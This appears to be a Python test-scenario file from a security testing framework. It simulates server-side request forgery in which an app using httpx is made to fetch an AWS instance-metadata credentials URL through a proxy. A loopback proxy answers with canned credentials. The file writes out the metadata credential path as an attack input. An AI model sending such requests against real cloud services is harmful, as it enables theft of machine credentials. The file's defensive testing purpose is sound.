"""G11: a visitor has the app fetch the cloud's metadata address, through the proxy that its requests in clear take.

So the address itself is never dialled here: the proxy on loopback answers for it.
"""

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.http import CREDENTIALS, Request, Web, answered
from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.scenarios import Scenario

METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/shop"


class _Proxy(Web):
    """Answers for whoever is asked for."""

    def answer(self, request: Request) -> bytes:
        return answered(CREDENTIALS) if b"169.254.169.254" in request.path else super().answer(request)


class MetadataThroughProxy(Scenario):
    """On httpx, in an app that fetches pictures from wherever a visitor says that they are."""

    code = "G11"
    attack = "has the app fetch the credentials of its machine from the cloud's metadata address"
    reference = "https://cwe.mitre.org/data/definitions/918.html; ATT&CK T1552.005"
    driver = "httpx"
    rule = "metadata-address"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """The proxy, honest all along."""
        return _Proxy(authority)

    def fetch(self, url: str) -> object:
        """What lies there."""
        import ssl

        import httpx

        context = ssl.create_default_context(cafile=self.config.ca_file)
        proxy = httpx.Proxy(f"https://localhost:{self.config.port}", ssl_context=context)
        through = {"http://": httpx.HTTPTransport(proxy=proxy)}
        with httpx.Client(mounts=through, verify=context, timeout=5) as client:
            return client.get(url).json()

    def work(self) -> None:
        """A visitor's picture."""
        self.fetch(f"https://localhost:{self.config.port}/7")

    def meet(self) -> object:
        """The attacker's."""
        return self.fetch(METADATA)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The app has them."""
        del service
        return isinstance(got, dict) and "SecretAccessKey" in got
